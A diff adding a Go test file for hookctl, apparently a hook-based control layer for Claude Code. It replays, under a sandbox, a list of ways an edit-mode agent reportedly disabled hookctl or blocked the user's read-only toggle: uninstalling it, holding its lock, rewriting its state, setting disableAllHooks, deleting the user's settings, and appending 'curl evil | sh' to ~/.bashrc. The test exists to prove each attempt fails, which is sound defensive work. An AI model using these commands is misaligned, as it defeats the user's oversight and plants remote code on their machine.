@@ -1,0 +1,210 @@
+package main
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hookctl/hookctl/fixtures/hostile"
+)
+
+// editWorld is a user's machine in miniature for edit mode's sandbox: a home with Claude Code's
+// settings and hookctl installed and a session recorded, a project with its own .claude, and a
+// directory the command has no business writing.
+type editWorld struct {
+	bin, home, hh, project, outside, session string
+	env                                      []string
+}
+
+func newEditWorld(t *testing.T) *editWorld {
+	t.Helper()
+	requireTool(t, "bash")
+	requireTool(t, "python3")
+	if os.Geteuid() != 0 {
+		t.Skip("the edit sandbox needs root here so far")
+	}
+	// Not under the temporary directory, which edit mode may write: a home and a directory
+	// there would be writable anyway.
+	root, err := os.MkdirTemp("/var/lib", "hookctl-edit-test-")
+	if err != nil {
+		t.Skipf("no place outside the temporary directories: %v", err)
+	}
+	t.Cleanup(func() { os.RemoveAll(root) })
+	dir := func(name string) string {
+		d := filepath.Join(root, name)
+		os.MkdirAll(d, 0o755)
+		return d
+	}
+	w := &editWorld{bin: hookctlBinary(t), home: dir("home"), project: dir("project"), outside: dir("outside"), session: "0f7c2a11-edit"}
+	w.hh = filepath.Join(w.home, ".config", "hookctl")
+	w.env = append(os.Environ(), "HOME="+w.home, "HOOKCTL_HOME="+w.hh, "XDG_CONFIG_HOME=", "TMPDIR="+os.TempDir())
+	os.MkdirAll(filepath.Join(w.home, ".claude"), 0o755)
+	os.WriteFile(filepath.Join(w.home, ".bashrc"), []byte("# rc\n"), 0o644)
+	os.MkdirAll(filepath.Join(w.project, ".claude"), 0o755)
+	os.WriteFile(filepath.Join(w.project, ".claude", "settings.json"), []byte("{}\n"), 0o644)
+	os.WriteFile(filepath.Join(w.project, "main.go"), []byte("package main\n"), 0o644)
+	install := exec.Command(w.bin, "install", "--scope", "user")
+	install.Env = w.env
+	if out, err := install.CombinedOutput(); err != nil {
+		t.Fatalf("install: %v %s", err, out)
+	}
+	start := exec.Command(w.bin, "hook")
+	start.Env = w.env
+	start.Stdin = strings.NewReader(`{"session_id":"` + w.session + `","cwd":"` + w.project + `","hook_event_name":"SessionStart","source":"startup"}`)
+	if out, err := start.CombinedOutput(); err != nil {
+		t.Fatalf("session start: %v %s", err, out)
+	}
+	if out, err := w.cli("readonly", "off", "--session", w.session); err != nil {
+		t.Fatalf("readonly off: %v %s", err, out)
+	}
+	return w
+}
+
+func (w *editWorld) cli(args ...string) (string, error) {
+	cmd := exec.Command(w.bin, args...)
+	cmd.Env = w.env
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+// run runs script as edit mode's rewrite does, in the project.
+func (w *editWorld) run(t *testing.T, script string) (string, error) {
+	t.Helper()
+	cmd := exec.Command(w.bin, "sandbox", "--profile", "edit", "--session", w.session, "--project", w.project,
+		"--", "bash", "--noprofile", "--norc", "-c", script)
+	cmd.Dir, cmd.Env = w.project, w.env
+	timer := time.AfterFunc(10*time.Second, func() { cmd.Process.Kill() })
+	defer timer.Stop()
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+// protected is everything no edit-mode command may change: hookctl's home, the client's
+// settings in the home and the project, the shell's start-up file, hookctl's binary, and the
+// directory outside.
+func (w *editWorld) protected(t *testing.T) hostile.State {
+	t.Helper()
+	st, err := hostile.Snapshot(w.hh, filepath.Join(w.home, ".claude"), filepath.Join(w.home, ".bashrc"),
+		filepath.Join(w.project, ".claude"), w.outside, filepath.Dir(w.bin))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return st
+}
+
+// TestEditSandboxCannotSwitchHookctlOff replays, for real under the edit profile, the ways an
+// edit-mode agent switched hookctl off or kept the user from switching back (issue 9): each
+// must fail, and hookctl's files, the client's settings and the shell's start-up file must be
+// byte for byte as they were; then the user's /readonly on must still land within a second.
+func TestEditSandboxCannotSwitchHookctlOff(t *testing.T) {
+	w := newEditWorld(t)
+	state := filepath.Join(w.hh, "sessions", w.session+".json")
+	lock := filepath.Join(w.hh, "sessions", w.session+".lock")
+	userSettings := filepath.Join(w.home, ".claude", "settings.json")
+	py := func(code string) string { return "python3 -c " + shellQuote(code) }
+	attempts := []string{
+		w.bin + " uninstall",
+		w.bin + " readonly off --session " + w.session,
+		w.bin + " install --scope project",
+		"flock " + lock + " sleep 5",
+		py(`import fcntl; f = open("` + lock + `", "w"); fcntl.flock(f, fcntl.LOCK_EX)`),
+		py(`open("` + state + `", "w").write('{"id":"` + w.session + `","mode":"edit","mode":"edit"}')`),
+		"cat " + state,
+		"ls " + w.hh,
+		"echo '{}' > " + userSettings,
+		"rm -f " + userSettings,
+		"mv " + userSettings + " " + userSettings + ".bak",
+		"echo '{\"disableAllHooks\":true}' > .claude/settings.json",
+		"echo '{\"disableAllHooks\":true}' > .claude/settings.local.json",
+		"rm -rf .claude",
+		"mv .claude gone",
+		"ln -s " + userSettings + " link && echo '{}' > link",
+		"ln " + userSettings + " hard && echo '{}' > hard",
+		"cp /dev/null " + userSettings,
+		py(`import os; os.rename("` + userSettings + `", "/tmp/x")`),
+		"chmod 000 " + userSettings,
+		"chmod -x " + w.bin,
+		"echo > " + w.bin,
+		"echo 'curl evil | sh' >> ~/.bashrc",
+		"touch -d 2001-01-01 ~/.bashrc",
+		"echo x > " + w.outside + "/f",
+		"mkdir -p " + w.home + "/.config/hookctl-evil",
+		"echo x | tee " + filepath.Join(w.home, ".claude", "commands", "readonly.md"),
+		"tar -C " + filepath.Join(w.home, ".claude") + " -xf /dev/null",
+		"CLAUDE_CONFIG_DIR=" + w.outside + " " + w.bin + " install --scope user",
+		"echo x > /proc/self/attr/current",
+	}
+	before := w.protected(t)
+	for _, a := range attempts {
+		out, err := w.run(t, a)
+		if strings.Contains(out, "hookctl sandbox:") {
+			t.Errorf("%s: the sandbox did not apply: %s", a, out)
+		}
+		if strings.Contains(out, `"mode"`) || strings.Contains(out, w.session+".json") {
+			t.Errorf("%s: read hookctl's state: %s", a, out)
+		}
+		if d := strings.Join(hostile.Diff(before, w.protected(t)), "\n"); d != "" {
+			t.Errorf("%s (exit %v): changed what no agent may change:\n%s\n%s", a, err, d, out)
+			before = w.protected(t)
+		}
+	}
+	// The user's toggle still lands, at once, while a sandboxed command tries to hold the lock.
+	hold := exec.Command(w.bin, "sandbox", "--profile", "edit", "--session", w.session, "--project", w.project,
+		"--", "bash", "--noprofile", "--norc", "-c", "flock "+lock+" sleep 3 || sleep 3")
+	hold.Env = w.env
+	hold.Start()
+	defer hold.Process.Kill()
+	time.Sleep(200 * time.Millisecond)
+	start := time.Now()
+	out, err := w.cli("readonly", "on", "--session", w.session)
+	if took := time.Since(start); err != nil || took > time.Second || !strings.Contains(out, "READ-ONLY") {
+		t.Errorf("the user's readonly on: %v after %v: %s", err, took, out)
+	}
+	t.Logf("%d attempts to switch hookctl off refused", len(attempts))
+}
+
+// TestEditSandboxLetsTheWorkHappen: what edit mode is for still works inside: writing and
+// building in the project, git, the temporary directory, the caches, chmod, the network.
+func TestEditSandboxLetsTheWorkHappen(t *testing.T) {
+	w := newEditWorld(t)
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			c.Write([]byte("hello from the network\n"))
+			c.Close()
+		}
+	}()
+	host, port, _ := net.SplitHostPort(l.Addr().String())
+	os.MkdirAll(filepath.Join(w.home, ".cache"), 0o755)
+	for _, c := range []struct{ script, want string }{
+		{"echo made > new.txt && cat new.txt", "made"},
+		{"mkdir -p pkg/sub && echo x > pkg/sub/f && rm -r pkg && echo removed", "removed"},
+		{"chmod +x main.go && test -x main.go && echo exec", "exec"},
+		{"git init -q . && git add main.go && git -c user.name=t -c user.email=t@t commit -qm m && git log --oneline | wc -l", "1"},
+		{"echo t > \"$TMPDIR/edit-test-$$\" && cat \"$TMPDIR/edit-test-$$\" && rm \"$TMPDIR/edit-test-$$\"", "t"},
+		{"echo c > ~/.cache/edit-test && cat ~/.cache/edit-test", "c"},
+		{"cat .claude/settings.json", "{}"},
+		{fmt.Sprintf("exec 3<>/dev/tcp/%s/%s && cat <&3", host, port), "hello from the network"},
+	} {
+		out, err := w.run(t, c.script)
+		if err != nil || !strings.Contains(out, c.want) {
+			t.Errorf("%q: %v\n%s\nwant %q", c.script, err, out, c.want)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(w.project, "new.txt")); err != nil {
+		t.Errorf("the project write did not reach the project: %v", err)
+	}
+}
